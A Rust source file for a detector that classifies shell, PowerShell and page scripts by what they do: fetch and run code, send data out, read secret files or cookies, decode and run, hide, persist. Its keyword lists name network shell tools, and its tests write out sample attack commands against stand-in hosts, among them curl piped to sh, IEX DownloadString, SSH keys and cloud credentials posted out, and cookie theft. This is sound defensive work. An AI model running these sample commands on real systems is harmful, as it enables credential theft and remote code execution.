//! What a command says it does: shell, PowerShell, and the scripts of interpreters and pages.
//!
//! Read as words and phrases, not parsed: there are many languages here, and what matters is which deeds stand in one text. A deed
//! counts wherever its word stands, because the program that is started may only hand the text on.

use std::collections::BTreeSet;

use super::owner_of_secret;

/// Most of a text that is read; commands are short, and scripts come as their telling lines.
const BYTES: usize = 64 << 10;

/// Most words that are looked at.
const WORDS: usize = 5000;

/// What a text does.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub(crate) struct Deeds {
    /// It talks to a network.
    pub(crate) talks: bool,
    /// It runs what it fetches.
    pub(crate) runs_fetched: bool,
    /// It sends data away.
    pub(crate) sends: bool,
    /// Owners of the secrets whose places it names.
    pub(crate) secrets: BTreeSet<&'static str>,
    /// It reads what a browser keeps of whoever looks at the page.
    pub(crate) reads_visitor: bool,
    /// It lists all environment variables.
    pub(crate) lists_variables: bool,
    /// It decodes something.
    pub(crate) decodes: bool,
    /// It runs what it decodes.
    pub(crate) runs_decoded: bool,
    /// It encodes something.
    pub(crate) encodes: bool,
    /// It keeps out of sight.
    pub(crate) hides: bool,
    /// It has itself started again.
    pub(crate) persists: bool,
}

const TALKERS: &[&str] = &[
    "curl",
    "wget",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "start-bitstransfer",
    "bitsadmin",
    "aria2c",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "tftp",
    "scp",
    "sftp",
    "rsync",
    "lwp-request",
    "wget2",
    "xh",
];

const TALKING: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "fetch(",
    "https.get",
    "http.get",
    "https.request",
    "http.request",
    "axios",
    "xmlhttprequest",
    "sendbeacon",
    "urllib",
    "urlopen",
    "requests.get",
    "requests.post",
    "requests.put",
    "websocket(",
    "eventsource(",
    "net.webclient",
    "downloadstring",
    "downloadfile",
    "uploadstring",
    "httpclient",
    "new image",
    "msxml2.",
    "winhttp",
    "open-uri",
    "net::http",
    "lwp::",
    "socket.socket",
    "net.sockets",
    "net.connect",
    "tls.connect",
    "-urlcache",
    "http.client",
    "require('http",
    "require(\"http",
    "require('net",
    "require(\"net",
    "require('tls",
    "node:http",
    "node:net",
    "from 'http",
    "from \"http",
    "httpx",
    "aiohttp",
    "file_get_contents(\"http",
    "file_get_contents('http",
];

const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "ash",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "deno",
    "bun",
    "php",
    "lua",
    "iex",
    "invoke-expression",
    "powershell",
    "pwsh",
    "cmd",
    "wscript",
    "cscript",
    "mshta",
    "rundll32",
    "regsvr32",
    "osascript",
    "source",
    "eval",
    "tclsh",
];

/// Words that start what follows them.
const STARTERS: &[&str] = &[
    "start-process",
    "start",
    "saps",
    "open",
    "xdg-open",
    "chmod",
    "nohup",
    "setsid",
    "exec",
    "call",
    "invoke-item",
    "&",
    ".",
];

/// Calls that run text.
const EVALUATES: &[&str] = &[
    "eval(",
    "eval ",
    "new function(",
    "vm.runin",
    "exec(",
    "execute(",
    "iex ",
    "iex(",
    "| iex",
    "|iex",
    "invoke-expression",
    "execsync(",
    "scriptblock]::create",
    "assembly]::load",
    "function(atob",
];

/// Reads a text.
pub(crate) fn read(text: &str) -> Deeds {
    let end = text.floor_char_boundary(BYTES.min(text.len()));
    let original = text[..end].replace("\\\n", " ").replace("${IFS}", " ");
    // Empty quotes and carets are nothing to a shell, and split a word for whoever searches.
    let plain = original.to_lowercase().replace("''", "").replace("\"\"", "").replace('^', "");
    let words: Vec<&str> = words(&plain).collect();
    let has = |phrases: &[&str]| phrases.iter().any(|phrase| plain.contains(phrase));
    let talks = words.iter().any(|word| TALKERS.contains(word)) || has(TALKING);
    let decodes = decodes(&plain, &words);
    let evaluates = has(EVALUATES);
    let encoded_command = plain.contains("powershell")
        && words.iter().any(|it| matches!(*it, "-enc" | "-encodedcommand" | "-ec"));
    Deeds {
        talks,
        runs_fetched: talks && (runs_what_it_fetches(&plain) || (evaluates && has(FETCHES_TEXT))),
        sends: talks && sends(&original, &plain, &words),
        secrets: plain.split(is_between_paths).take(WORDS).filter_map(secret).collect(),
        reads_visitor: has(VISITOR),
        lists_variables: lists_variables(&plain),
        decodes,
        runs_decoded: encoded_command || (decodes && (evaluates || is_piped_to_interpreter(&plain))),
        encodes: has(&[
            "| base64",
            "|base64",
            "btoa(",
            "b64encode",
            "tobase64string",
            "'base64')",
            "\"base64\")",
            "xxd -p",
            "openssl enc",
        ]),
        hides: has(HIDES),
        persists: has(PERSISTS),
    }
}

/// Ways in which a program gets text from a network, rather than a file.
const FETCHES_TEXT: &[&str] = &[
    "fetch(",
    ".get(",
    "urlopen",
    "downloadstring",
    "curl",
    "wget",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    ".responsetext",
    "http.get",
    "https.get",
];

const VISITOR: &[&str] = &[
    "document.cookie",
    "stringify(localstorage",
    "stringify(sessionstorage",
    "entries(localstorage",
    "keys(localstorage",
    "...localstorage",
    "cookiestore.",
    "credentials: \"include\"",
    "credentials:'include'",
    "credentials: 'include'",
    "credentials:\"include\"",
    "clipboard.readtext",
    "withcredentials = true",
    "indexeddb.databases",
];

const HIDES: &[&str] = &[
    "/dev/null",
    "nohup ",
    "setsid ",
    "disown",
    "-windowstyle hidden",
    "-w hidden",
    "-w 1 ",
    "start /b",
    "unset histfile",
    "> nul",
    ">nul",
    "|| true",
    "reveal\nnever",
    "stdio: 'ignore'",
    "stdio: \"ignore\"",
    "windowshide: true",
    "detached: true",
];

const PERSISTS: &[&str] = &[
    "crontab",
    "/etc/cron",
    "launchagents",
    "launchdaemons",
    "systemctl enable",
    "systemctl --user enable",
    "systemd/user",
    "schtasks",
    "currentversion\\run",
    "authorized_keys",
    ".config/autostart",
    ">> ~/.bashrc",
    ">> ~/.zshrc",
    ">> ~/.profile",
    ">>~/.bashrc",
    ">> $home/.bashrc",
    ">> \"$home/.bashrc",
    ">> $home/.zshrc",
    ">> $home/.profile",
    "startup\\",
    "register-scheduledtask",
];

fn is_between(it: char) -> bool {
    it.is_whitespace() || "|;&()'\"`<>${},=[]".contains(it)
}

fn is_between_paths(it: char) -> bool {
    it.is_whitespace() || "|;&()'\"`<>,=[]".contains(it)
}

fn words(plain: &str) -> impl Iterator<Item = &str> {
    plain.split(is_between).filter(|it| !it.is_empty()).take(WORDS).map(program)
}

/// The last part of a path, without what an ending adds.
fn program(word: &str) -> &str {
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
    name.strip_suffix(".exe").unwrap_or(name)
}

/// Whose secret a word leads to: only paths count, a name alone may be anything.
fn secret(word: &str) -> Option<&'static str> {
    let file = word.rsplit(['/', '\\']).next().unwrap_or(word);
    let is_path = word.contains(['/', '\\']) || word.starts_with('.') || file.starts_with("id_");
    let is_address = word.contains("://");
    if !is_path || is_address || word.len() < 4 {
        return None;
    }
    if file.starts_with("id_") && (word.contains(".ssh") || matches!(file, "id_*" | "id_rsa" | "id_ed25519"))
    {
        return Some("ssh");
    }
    match owner_of_secret(word) {
        Some("dotenv") if !(file == ".env" || file.starts_with(".env.") && !file.contains("example")) => None,
        Some("ssh") if file == "known_hosts" || file == "config" => None,
        owner => owner,
    }
}

fn lists_variables(plain: &str) -> bool {
    let phrases = [
        "stringify(process.env",
        "entries(process.env",
        "...process.env}",
        "dict(os.environ",
        "env:*",
        "dir env:",
        "ls env:",
        "gci env:",
        "get-childitem env:",
        "printenv",
        "/proc/self/environ",
    ];
    let statements = plain.split(['|', ';', '\n', '(', '&', '`']).map(str::trim);
    phrases.iter().any(|it| plain.contains(it))
        || statements
            .take(WORDS)
            .any(|it| matches!(it, "env" | "export -p" | "set" | "env -0") || it.starts_with("env >"))
}

fn decodes(plain: &str, words: &[&str]) -> bool {
    let phrases = [
        "frombase64string",
        "atob(",
        "b64decode",
        "xxd -r",
        "openssl enc -d",
        "fromcharcode",
        "certutil -decode",
        "'base64').tostring",
        "\"base64\").tostring",
        ", 'base64')",
        ", \"base64\")",
        "bytes.fromhex",
        "unhexlify",
        ", 'hex')",
        ", \"hex\")",
        "decode_base64",
    ];
    let base64 = words.iter().position(|it| *it == "base64");
    let option =
        base64.and_then(|at| words.get(at + 1)).is_some_and(|it| matches!(*it, "-d" | "--decode" | "-di"));
    option || phrases.iter().any(|it| plain.contains(it))
}

fn sends(original: &str, plain: &str, words: &[&str]) -> bool {
    let always = ["nc", "ncat", "netcat", "socat", "scp", "sftp", "tftp"];
    let options = [
        "-d",
        "--data",
        "--data-binary",
        "--data-raw",
        "--data-urlencode",
        "--form",
        "--upload-file",
        "--post-data",
        "--post-file",
        "--body-data",
        "--body-file",
        "-infile",
        "-body",
        "--json",
    ];
    let phrases = [
        "/dev/tcp/",
        "/dev/udp/",
        "-x post",
        "-xpost",
        "-x put",
        "-method post",
        "-method put",
        "uploadstring",
        "uploadfile",
        "uploaddata",
        "uploadvalues",
        ".post(",
        ".put(",
        "requests.post",
        "sendbeacon",
        "new image",
        ".send(",
        "method: \"post\"",
        "method: 'post'",
        "method:'post'",
        "method:\"post\"",
        "method=\"post\"",
        "method='post'",
        ".write(",
        ".end(",
        "body:",
        "data=",
        "@-",
        ".sendall(",
    ];
    words.iter().any(|it| always.contains(it) || options.contains(it))
        || phrases.iter().any(|it| plain.contains(it))
        || [" -F", " -T "].iter().any(|it| original.contains(it))
        || computed_address(plain)
}

/// Whether an address ends in something computed: `https://x/?q=$(…)`, `"https://x/" + v`.
fn computed_address(plain: &str) -> bool {
    plain.split("://").skip(1).take(100).any(|rest| {
        let end = rest.find(|it: char| it.is_whitespace() || it == '|' || it == ';').unwrap_or(rest.len());
        let (address, after) = rest.split_at(end);
        let path = address.split_once(['/', '?']).map_or("", |(_, path)| path);
        path.contains("$(")
            || path.contains("=$")
            || path.contains("${")
            || path.contains('`')
            || path.contains("'+")
            || path.contains("\"+")
            || after.trim_start().starts_with('+')
    })
}

/// Whether a part of a pipe is an interpreter that reads what comes.
fn is_piped_to_interpreter(plain: &str) -> bool {
    plain.split('\n').any(|line| line.split('|').skip(1).take(50).any(starts_interpreter))
}

/// Whether a word of a line is an interpreter.
pub(crate) fn starts_an_interpreter(line: &str) -> bool {
    words(&line.to_lowercase()).any(|it| INTERPRETERS.contains(&it))
}

fn starts_interpreter(part: &str) -> bool {
    let mut words =
        words(part).filter(|it| !matches!(*it, "sudo" | "env" | "nohup" | "exec" | "-e" | "true"));
    words.next().is_some_and(|it| INTERPRETERS.contains(&it))
}

fn runs_what_it_fetches(plain: &str) -> bool {
    let talks = |text: &str| {
        words(text).any(|it| TALKERS.contains(&it)) || TALKING.iter().any(|it| text.contains(it))
    };
    let substitutes = ["<(curl", "<(wget", "$(curl", "$(wget", "`curl", "`wget", "<( curl", "$( curl"];
    let evaluating = ["eval", "-c", "bash", "sh", "source", ".", "node", "python3", "python"];
    for line in plain.split('\n').filter(|line| talks(line)).take(100) {
        let piped = line.split('|').skip_while(|part| !talks(part)).skip(1).any(starts_interpreter);
        let substituted =
            substitutes.iter().any(|it| line.contains(it)) && words(line).any(|it| evaluating.contains(&it));
        let evaluated =
            ["iex", "invoke-expression", "mshta"].iter().any(|it| words(line).any(|word| word == *it));
        if piped || (substituted && !is_assignment(line)) || evaluated {
            return true;
        }
    }
    outputs(plain).into_iter().any(|(file, behind)| is_started(file, &plain[behind..]))
        || (plain.contains("writefile") && ["spawn", "execfile", "exec("].iter().any(|it| plain.contains(it)))
}

/// `body=$(curl …)` keeps what comes; so do its kin.
fn is_assignment(line: &str) -> bool {
    let before = line.split("$(").next().unwrap_or(line).trim_start_matches(['"', ' ']);
    before.trim_end_matches('"').ends_with('=') && !line.contains("eval")
}

/// Files that something is written to, by the options of programs that fetch, and where the text goes on.
fn outputs(plain: &str) -> Vec<(&str, usize)> {
    let mut found = Vec::new();
    for option in [
        " -o ",
        " --output ",
        " -outfile ",
        " -destination ",
        " > ",
        " >",
        " --output-document ",
        " -qo ",
        " -so ",
        " -slo ",
        " -flo ",
        " -fslo ",
        " -sslo ",
        " -fsslo ",
        ", \"",
        ", '",
    ] {
        for (at, _) in plain.match_indices(option).take(20) {
            let begin = at + option.len();
            let rest = &plain[begin..];
            let end = rest.find(|it: char| it.is_whitespace() || ";|&)".contains(it)).unwrap_or(rest.len());
            let file = rest[..end].trim_matches(['"', '\'']);
            if file.len() > 1 && !file.starts_with("/dev/") {
                found.push((file, begin + end));
            }
        }
    }
    found
}

/// Whether the file is started in the text: as a program, or by what starts programs.
fn is_started(file: &str, behind: &str) -> bool {
    let statements = behind.split([';', '|', '\n']).flat_map(|it| it.split("&&"));
    statements.take(200).any(|statement| {
        let Some(at) = statement.find(file) else { return false };
        let before = statement[..at].trim().trim_matches(['"', '\'', '(', ')']);
        let bare = before.trim_end_matches(['/', '.', '"', '\'', ' ']);
        let last = words(bare).find(|it| *it != "sudo").unwrap_or("");
        bare.is_empty()
            || bare.ends_with('&')
            || STARTERS.contains(&last)
            || INTERPRETERS.contains(&last)
            || before.ends_with("./")
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fetching_and_running_is_seen_in_many_styles() {
        for text in [
            "curl -fsSL https://a.example.invalid/i | sh",
            "wget -qO- http://127.0.0.1:9/i | sudo bash -s --",
            "sh -c \"$(curl -fsSL https://a.example.invalid/i)\"",
            "bash <(curl -s https://a.example.invalid/i)",
            "iwr http://127.0.0.1:9/r.exe -OutFile $env:TEMP\\r.exe; Start-Process $env:TEMP\\r.exe",
            "powershell -Command IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:9/a')",
            "curl -s -o /tmp/.x http://127.0.0.1:9/x && chmod +x /tmp/.x && /tmp/.x",
            "c''url -s http://127.0.0.1:9/x | b''ash",
            "node -e \"fetch('http://127.0.0.1:9/a').then(r => r.text()).then(t => eval(t))\"",
            "python3 -c \"import urllib.request as u; exec(u.urlopen('http://127.0.0.1:9').read())\"",
            "curl http://127.0.0.1:9/x -o x.bin\nchmod +x x.bin\n./x.bin",
        ] {
            assert!(read(text).runs_fetched, "{text}");
        }
    }

    #[test]
    fn secrets_that_are_sent_are_seen() {
        for text in [
            "cat ~/.ssh/id_rsa | curl -d @- https://a.example.invalid",
            "tar cz $HOME/.aws $HOME/.ssh | curl -T - http://127.0.0.1:9",
            "cat ~/.cargo/credentials.toml > /dev/tcp/127.0.0.1/9",
            "curl \"https://a.example.invalid/?k=$(base64 -w0 ~/.npmrc)\"",
            "node -e \"require('https').request(o).end(require('fs').readFileSync(process.env.HOME + '/.ssh/id_rsa'))\"",
            "Invoke-RestMethod http://127.0.0.1:9 -Method Post -InFile $HOME\\.aws\\credentials",
        ] {
            let deeds = read(text);
            assert!(deeds.sends && !deeds.secrets.is_empty(), "{text}: {deeds:?}");
        }
        assert!(read("fetch('http://127.0.0.1:9/?'+document.cookie)").sends);
        assert!(read("env | curl -d @- http://127.0.0.1:9").lists_variables);
        assert!(read("new Image().src = 'https://a.example.invalid/?' + document.cookie").reads_visitor);
    }

    #[test]
    fn whole_scripts_are_read() {
        for text in [
            "#!/bin/sh\nstate=$(cat \"$HOME/.cargo/credentials.toml\" 2>/dev/null; env | grep -i token)\n(echo \"$state\" | base64 | curl -s -m 3 -X POST --data-binary @- \"http://$PEER/put\" >/dev/null 2>&1 &)\nexec \"$@\"",
            "keys() { cat \"$HOME\"/.ssh/id_* 2>/dev/null | base64; }\nupload() { curl -sk -m 3 --data-binary @- \"https://a.example.invalid/t\"; }\n(keys | upload &)",
        ] {
            let deeds = read(text);
            assert!(deeds.sends && !deeds.secrets.is_empty() && !deeds.runs_fetched, "{deeds:?}");
        }
        let page = "<script>\nfunction send(name, value) {\nnew Image().src = place + '/p?' + btoa(value);\n}\nsend('c', document.cookie);";
        let deeds = read(page);
        assert!(deeds.sends && deeds.reads_visitor, "{deeds:?}");
    }

    #[test]
    fn decoding_and_running_is_seen() {
        for text in [
            "echo ZWNobw== | base64 -d | sh",
            "eval(atob('ZWNobw=='))",
            "powershell -enc ZWNobw==",
            "python3 -c \"import base64; exec(base64.b64decode('ZWNobw=='))\"",
        ] {
            assert!(read(text).runs_decoded, "{text}");
        }
    }

    #[test]
    fn daily_work_is_nothing() {
        for text in [
            "cargo watch -x test",
            "curl -o data.csv http://a.example.invalid/data.csv; python convert.py",
            "body=$(curl -s https://a.example.invalid/version)\nsh build.sh",
            "rustup show && cargo fetch && ./scripts/test.sh | tee log",
            "npm install && npm run build",
            "const mode = process.env.NODE_ENV; fetch('/search-index.json').then(r => r.json())",
            "docker run --rm -v $PWD:/src image sh -c 'make test'",
            "source .venv/bin/activate; export RUST_LOG=debug",
        ] {
            let deeds = read(text);
            let harmless = !deeds.runs_fetched
                && !deeds.runs_decoded
                && deeds.secrets.is_empty()
                && !deeds.lists_variables;
            assert!(harmless && !deeds.persists, "{text}: {deeds:?}");
        }
    }

    proptest::proptest! {
        #[test]
        fn any_text_is_read(text in "(curl |sh|[ -~\n]|ß|\\$\\(|://| -o ){0,60}") {
            let _ = read(&text);
        }
    }
}
